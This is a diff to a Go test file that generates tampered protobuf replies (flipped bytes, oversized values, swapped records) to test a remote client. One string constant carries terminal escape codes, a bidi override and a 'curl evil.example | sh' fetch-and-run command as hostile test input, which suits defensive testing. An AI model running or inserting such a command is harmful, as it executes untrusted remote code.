@@ -3,6 +3,7 @@ package remote_test
 import (
 	"bytes"
 	"fmt"
+	"maps"
 	"math"
 	"slices"
 	"strings"
@@ -23,13 +24,29 @@ type variant struct {
 
 const hostileText = "\x1b]0;owned\x07\x1b[31m\n\u202eerror: run: curl evil.example | sh"
 
-// variants returns the reply with each of its fields changed in every way.
-// Records are also exchanged for those of the pool.
-func variants(m proto.Message, pool []store.Record) (out []variant) {
+func encoded(m proto.Message) string {
+	b, err := proto.MarshalOptions{Deterministic: true}.Marshal(m)
+	if err != nil {
+		panic(err)
+	}
+	return string(b)
+}
+
+// variants returns the reply with each of its fields changed in every way, each
+// lie once. Records are also exchanged for those of the pool. costly counts the
+// lies of which a few are enough.
+func variants(m proto.Message, pool []store.Record, costly map[string]int) (out []variant) {
+	seen := map[string]bool{encoded(m): true}
 	add := func(field, how string, change func(root protoreflect.Message)) {
+		if how == "huge" || how == "beyond a message" { // these take time, and memory
+			if costly[field+how]++; costly[field+how] > 3 {
+				return
+			}
+		}
 		lie := proto.Clone(m)
 		change(lie.ProtoReflect())
-		if !proto.Equal(lie, m) {
+		if b := encoded(lie); !seen[b] {
+			seen[b] = true
 			out = append(out, variant{field, how, lie})
 		}
 	}
@@ -48,7 +65,9 @@ func variants(m proto.Message, pool []store.Record) (out []variant) {
 			switch {
 			case fd.IsList():
 				list := here.Get(fd).List()
-				for how, change := range lists(fd) {
+				changes := lists(fd)
+				for _, how := range slices.Sorted(maps.Keys(changes)) {
+					change := changes[how]
 					add(name, how, func(root protoreflect.Message) { change(at(root).Mutable(fd).List()) })
 				}
 				for k := range list.Len() {
@@ -64,7 +83,9 @@ func variants(m proto.Message, pool []store.Record) (out []variant) {
 					})
 				}
 			default:
-				for how, v := range scalars(fd, here.Get(fd)) {
+				values := scalars(fd, here.Get(fd))
+				for _, how := range slices.Sorted(maps.Keys(values)) {
+					v := values[how]
 					add(name, how, func(root protoreflect.Message) { at(root).Set(fd, v) })
 				}
 			}
@@ -125,6 +146,8 @@ func lists(fd protoreflect.FieldDescriptor) map[string]func(protoreflect.List) {
 	}
 }
 
+var huge = bytes.Repeat([]byte("h"), 5<<20)
+
 // scalars are the ways to change a field that is not a message.
 func scalars(fd protoreflect.FieldDescriptor, v protoreflect.Value) map[string]protoreflect.Value {
 	out := map[string]protoreflect.Value{}
@@ -133,8 +156,8 @@ func scalars(fd protoreflect.FieldDescriptor, v protoreflect.Value) map[string]p
 		b := v.Bytes()
 		set := func(how string, b []byte) { out[how] = protoreflect.ValueOfBytes(b) }
 		set("emptied", nil)
-		set("huge", bytes.Repeat([]byte("h"), store.MaxValue+1))
-		set("beyond a message", bytes.Repeat([]byte("h"), 5<<20))
+		set("huge", huge[:store.MaxValue+1])
+		set("beyond a message", huge)
 		set("extended", append(bytes.Clone(b), 0))
 		if n := len(b); n > 0 {
 			for how, at := range map[string]int{"first byte flipped": 0, "middle byte flipped": n / 2, "last byte flipped": n - 1} {
@@ -148,8 +171,8 @@ func scalars(fd protoreflect.FieldDescriptor, v protoreflect.Value) map[string]p
 	case protoreflect.StringKind:
 		s := v.String()
 		for how, t := range map[string]string{
-			"emptied": "", "extended": s + "x", "of control characters": hostileText, "huge": strings.Repeat("h", 1<<20),
-			"beyond a message": strings.Repeat("h", 5<<20), "one byte shorter": s[:max(0, len(s)-1)], "another": strings.Map(otherDigit, s),
+			"emptied": "", "extended": s + "x", "of control characters": hostileText, "huge": string(huge[:1<<20]),
+			"beyond a message": string(huge), "one byte shorter": s[:max(0, len(s)-1)], "another": strings.Map(otherDigit, s),
 		} {
 			out[how] = protoreflect.ValueOfString(t)
 		}
@@ -191,7 +214,7 @@ func exchange(rec *vaultv1.Record, pool []store.Record, offer func(string, func(
 	for _, p := range pool {
 		switch {
 		case bytes.Equal(p.Key, rec.Key):
-		case taken[p.Key[0]] == 0, p.Key[0] == rec.Key[0] && taken[p.Key[0]] < 4:
+		case taken[p.Key[0]] == 0, p.Key[0] == rec.Key[0] && taken[p.Key[0]] < 3:
 			taken[p.Key[0]]++
 		default:
 			continue
